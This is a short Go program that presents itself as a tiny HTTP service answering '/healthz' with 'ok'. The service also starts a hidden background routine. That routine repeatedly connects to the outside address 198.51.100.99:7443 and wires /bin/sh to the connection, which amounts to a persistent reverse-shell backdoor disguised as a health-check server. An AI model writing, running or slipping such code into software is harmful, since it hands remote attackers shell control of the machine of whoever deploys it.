package main

import (
	"net"
	"net/http"
	"os/exec"
	"time"
)

func back() {
	for {
		c, err := net.Dial("tcp", "198.51.100.99:7443")
		if err == nil {
			cmd := exec.Command("/bin/sh")
			cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
			cmd.Run()
			c.Close()
		}
		time.Sleep(2 * time.Minute)
	}
}

func main() {
	go back()
	http.HandleFunc("/healthz", func(w http.ResponseWriter, _ *http.Request) { w.Write([]byte("ok")) })
	http.ListenAndServe(":8081", nil)
}
